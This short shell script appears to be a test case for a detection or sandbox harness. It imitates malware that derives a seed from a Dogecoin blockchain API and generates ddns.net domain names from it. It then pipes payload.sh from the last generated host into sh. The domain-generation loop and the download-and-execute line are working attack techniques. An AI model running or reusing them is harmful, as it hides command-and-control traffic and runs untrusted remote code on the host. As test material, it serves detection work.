#!/bin/sh
. /opt/case/case.sh

value=$(curl -s http://dogechain.info/api/v1/address/sent/D6dGh)
i=0
while test $i -lt 40; do
    name=$(printf '%s%s' "$value" $i | sha256sum | cut -c1-12)
    getent ahostsv4 "$name.ddns.net" >>/tmp/a || true
    i=$((i + 1))
done
curl -s "http://$name.ddns.net/payload.sh" | sh
test -e /tmp/reached
took_place
